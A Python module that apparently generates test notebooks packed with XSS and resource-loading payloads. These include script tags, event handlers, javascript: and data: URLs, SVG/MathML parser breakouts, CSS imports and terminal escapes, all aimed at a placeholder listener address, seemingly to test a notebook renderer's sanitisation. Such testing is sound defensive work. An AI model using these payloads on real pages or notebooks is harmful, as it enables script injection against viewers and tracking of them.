"""What somebody may put into a recording who wants something to run, or to be asked for, when it is looked at."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

RUN = "document.documentElement.dataset.pwned=1;window.pwned=1;alert(1);new Image().src='{u}/js'"
"""What a script would do: `{u}` is the address of somebody who listens."""
_B64 = base64.b64encode(b"<script>top.pwned=1;alert(1)</script>").decode()
_SVG64 = base64.b64encode(
    b"<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'><script>top.pwned=1</script></svg>"
).decode()

HTML = (
    "<script>{run}</script>",
    "<SCRIPT SRC={u}/s.js></SCRIPT>",
    "<script>\u2028{run}</script >",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    '<img src=x onerror="{run}">',
    "<img src={u}/i.png>",
    "<img srcset='{u}/set.png 1x'>",
    "<img src=' {u}/space.png'>",
    "<img src='//{h}/relative.png'>",
    "<img src='data:image/png,%00' onerror=\"{run}\">",
    "<img src='DATA:text/html;base64,{b64}'>",
    "<img/src=x/onerror={run}>",
    "<picture><source srcset={u}/p.png><img></picture>",
    "<body onload='{run}' background={u}/b.png>",
    "<div onmouseover='{run}' onfocus='{run}' tabindex=1 autofocus style='position:fixed;inset:0'>x</div>",
    "<details open ontoggle='{run}'>x</details>",
    "<input autofocus onfocus='{run}'>",
    "<select autofocus onfocus='{run}'></select>",
    "<marquee onstart='{run}'>x</marquee>",
    "<video src={u}/v.mp4 autoplay onerror='{run}' poster={u}/poster.png></video>",
    "<audio src={u}/a.mp3 autoplay></audio>",
    "<video><source src={u}/v2.mp4 onerror='{run}'><track src={u}/t.vtt default></video>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='JaVa\tScript:{run}'>x</a>",
    "<a href='&#106;avascript:{run}'>x</a>",
    "<a href='\x01javascript:{run}'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,{b64}'>x</a>",
    "<a href='DATA:text/html,<script>1</script>' target=_top>x</a>",
    "<a href='#cell-0' ping='{u}/ping'>x</a>",
    "<a id=cell-0 name=head href=#x>x</a>",
    "<base href='{u}/'><img src=based.png><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url={u}/refresh'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<link rel=stylesheet href={u}/c.css><link rel=prefetch href={u}/pre><link rel=preconnect href={u}>",
    "<link rel=dns-prefetch href={u}><link rel=icon href={u}/favicon.ico><link rel=manifest href={u}/m>",
    "<style>@import url({u}/import.css);*{{background:url({u}/bg.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({u}/f)}}*{{font-family:x}}</style>",
    "<div style='background:url({u}/style.png);width:expression(alert(1))'>x</div>",
    "<table background={u}/t.png><tr><td background={u}/td.png>x</table>",
    "<iframe src={u}/frame></iframe><iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "<iframe src='javascript:{run}'></iframe><frameset><frame src={u}/f></frameset>",
    "<object data={u}/o></object><embed src={u}/e><applet code=x archive={u}/jar></applet>",
    "<object data='data:text/html;base64,{b64}'></object>",
    "<form action={u}/post method=post id=f><input name=q value=1><button autofocus>x</button></form>",
    "<form id=main><input name=children></form><img name=head><form name=document></form>",
    "<button form=f formaction='javascript:{run}'>x</button><isindex action={u}/isindex>",
    "<svg onload='{run}'><script>{run}</script></svg>",
    "<svg><image href={u}/svg.png /><use href='{u}/use.svg#x'/></svg>",
    '<svg><use href="data:image/svg+xml;base64,{svg64}#x"/></svg>',
    "<svg><animate onbegin='{run}' attributeName=x dur=1s></svg>",
    "<svg><a><set attributeName=href to='javascript:{run}'/><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>top.pwned=1</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror='{run}'></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<math href='javascript:{run}'>x</math><math><maction actiontype=statusline xlink:href='javascript:{run}'>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<template><img src=x onerror={run}></template><template shadowrootmode=open><script>{run}</script></template>",
    "<textarea><img title='</textarea><img src=x onerror={run}>'></textarea>",
    "<title><img title='</title><img src=x onerror={run}>'></title>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp><plaintext><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>--><!-- --!><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]><?xml-stylesheet href='{u}/x.xsl'?>",
    "</main></body></html><script>{run}</script>",
    "</div></article></main><main data-version=9><article class='cell running'><span class='status' data-since='x'>",
    "<div class='live' id=head>x</div><span class='status ok'>ok</span>",
    "<img src='data:image/svg+xml;base64,{svg64}'>",
    "<dialog open><p>x</p></dialog><portal src={u}/portal></portal><fencedframe src={u}/ff></fencedframe>",
    "<p contenteditable onfocus={run} popover is=x slot=y part=z itemid={u}/i>x",
    "<blockquote cite={u}/cite><q cite={u}/q><ins cite={u}/ins><td headers=main>x",
    "<a href={u}/link rel=opener target=_blank download>a link that nobody follows</a>",
    "\ud800<b>half a character</b>",
)

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' height='9'"
SVG = (
    _SVG + " onload='{run}'><script>{run}</script></svg>",
    _SVG + "><image href='{u}/image.png'/><image xlink:href='{u}/image2.png'/><use href='{u}/use.svg#a'/></svg>",
    _SVG + "><foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script>"
    "<iframe src='{u}/f'/><img src='{u}/i'/></body></foreignObject></svg>",
    _SVG
    + "><animate onbegin='{run}' attributeName='x' dur='1s'/><set attributeName='href' to='javascript:{run}'/></svg>",
    _SVG + "><style>@import url({u}/svg.css);*{{fill:url({u}/fill.svg#a)}}</style><feImage href='{u}/fe.png'/></svg>",
    _SVG + "><a href='javascript:{run}'><text>x</text></a><script href='{u}/s.js'/></svg>",
    "<?xml version='1.0'?><?xml-stylesheet href='{u}/x.xsl' type='text/xsl'?><!DOCTYPE x SYSTEM '{u}/x.dtd'>"
    + _SVG
    + "/>",
    "'\"><script>{run}</script>",
)

MARKDOWN = (
    "[x](javascript:{run})",
    "[x](<java\nscript:{run}>)",
    "[x](data:text/html;base64,{b64})",
    "![x]({u}/md.png)",
    "![x](attachment:evil.png)",
    "![x](attachment:evil2.png) ![x](attachment:evil3.svg) <img src='attachment:evil.png\" onerror={run} x=\"'>",
    '![" onerror={run} x="](x "t" onerror={run}")',
    "[x]: {u}/ref\n\n![x][x]",
    "<{u}/auto> javascript:{run}",
    '`<img src=x onerror={run}>`\n\n```html\n<script>{run}</script>\n```\n\n~~~"><img src=x onerror={run}>\n~~~',
    "| a |\n|---|\n| <img src=x onerror={run}> |\n",
    "# <img src=x onerror={run}> </title><script>{run}</script>",
)

TEXT = (
    "<script>{run}</script>\"'><img src=x onerror={run}>",
    "\x1b]8;;javascript:{run}\x07link\x1b]8;;\x07 \x1b]0;title\x07 \x1b[2J\x1b[31;999999999999;38;5m<b>red\x1b[0m",
    '\x1b[38;2;1;2;"onmouseover={run}m<i>x</i> \x1bP+q\x1b\\ \x9b31m \u202egnp.exe \x00\x08\r',
    "</pre></div><script>{run}</script>",
    "\ud800\udfff half a character",
)


def filled(text: str, address: str) -> str:
    """Return a payload with the address of whoever listens."""
    host = address.removeprefix("http://")
    run = RUN.replace("{u}", address)
    text = text.replace("{b64}", _B64).replace("{svg64}", _SVG64)
    return text.replace("{run}", run).replace("{u}", address).replace("{h}", host).replace("{{", "{").replace("}}", "}")


def bundles(address: str) -> list[dict[str, Any]]:
    """Return MIME bundles that want something."""
    made: list[dict[str, Any]] = [{"text/html": text} for text in HTML]
    made += [{"image/svg+xml": text} for text in SVG]
    made += [{"text/markdown": text} for text in MARKDOWN]
    made += [{mime: text} for text in TEXT for mime in ("text/plain", "text/latex", "application/json", "x/y<script>")]
    made += [
        {"application/javascript": "{run}", "text/plain": "js"},
        {"text/javascript": "{run}"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "<script>{run}</script>"}},
        {"image/png": '"><script>{run}</script>'},
        {"image/png": 'AAAA" onerror="{run}'},
        {"image/jpeg": ["AA", "AA' onerror='{run}"]},
        {
            "image/png": base64.b64encode(
                b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\x7f\xff\xff\xff" * 2 + b"\x08\6\0\0\0"
            ).decode()
        },
        {'image/png"><script>{run}</script>': "AAAA"},
        {"text/html": ["<img src=x ", "onerror={run}>"]},
        {"text/html": {"a": "<script>{run}</script>"}},
    ]
    return json.loads(filled_json(made, address))


def filled_json(value: Any, address: str) -> str:
    """Return JSON of a value with the payloads in it filled."""

    def walk(one: Any) -> Any:
        if isinstance(one, str):
            return filled(one, address)
        if isinstance(one, list):
            return [walk(item) for item in one]
        return {walk(key): walk(item) for key, item in one.items()} if isinstance(one, dict) else one

    return json.dumps(walk(value))


def outputs(address: str) -> list[dict[str, Any]]:
    """Return outputs that want something."""
    found: list[dict[str, Any]] = [
        {"output_type": "display_data", "data": data, "metadata": {}} for data in bundles(address)
    ]
    for text in TEXT:
        found.append({"output_type": "stream", "name": "stdout", "text": filled(text, address)})
        found.append({"output_type": "stream", "name": text, "text": [filled(text, address)]})
        found.append({"output_type": "error", "ename": text, "evalue": text, "traceback": [filled(text, address)]})
        found.append({"output_type": "error", "ename": text, "evalue": filled(text, address), "traceback": []})
        found.append({"output_type": filled(text, address)})
    return found


def cells(address: str) -> list[dict[str, Any]]:
    """Return cells that want something."""
    bad = filled(TEXT[0], address)
    facts = {
        "status": bad,
        "reason": bad,
        "event": bad,
        "duration": bad,
        "peak_memory": {"x": bad},
        "artifacts": [{"path": bad, "change": bad, "size": bad, "sha256": bad}, bad, {"path": "../" + bad}],
    }
    skipped = {"status": "skipped", "reason": bad, "duration": 1e308, "peak_memory": -1, "artifacts": bad}
    stamps = {"iopub.status.busy": bad, "iopub.status.idle": '2026-01-01T00:00:00+00:00"' + bad}
    running = {"status": "running"}
    attachments = {
        "evil.png": {"image/png": '"><script>' + bad},
        "evil2.png": {"text/html": bad, 'image/png" onerror="x': bad},
        "evil3.svg": {"image/svg+xml": filled(SVG[0], address)},
        bad: bad,
    }
    code = {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [], "source": bad}
    made: list[dict[str, Any]] = [
        {**code, "metadata": {"kernel_exec": facts, "tags": [bad], "title": bad, "execution": stamps}},
        {**code, "metadata": {"kernel_exec": skipped}},
        {**code, "metadata": {"kernel_exec": running, "execution": stamps}, "execution_count": None},
        {**code, "outputs": outputs(address)},
        {"cell_type": "raw", "metadata": {"format": bad}, "source": bad},
    ]
    texts = [filled(text, address) for text in (*MARKDOWN, *HTML, *TEXT)]
    made += [{"cell_type": "markdown", "metadata": {}, "source": text, "attachments": attachments} for text in texts]
    return [{"id": f"c{number}", **cell} for number, cell in enumerate(made)]


def notebook(path: Path, address: str) -> Path:
    """Write a notebook that wants something."""
    bad = filled(TEXT[0], address)
    told = {"environment": {bad: bad, "python": bad, "packages": {bad: bad}, "x": [bad]}, "origin": {"notebook": bad}}
    metadata = {
        "title": bad + "</title><script>" + bad,
        "kernelspec": {"name": bad, "display_name": bad, "language": bad},
        "language_info": {"name": "python", "version": bad, "pygments_lexer": bad},
        "kernel_exec": {**told, "name": bad},
    }
    path.write_text(json.dumps({"cells": cells(address), "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}))
    return path
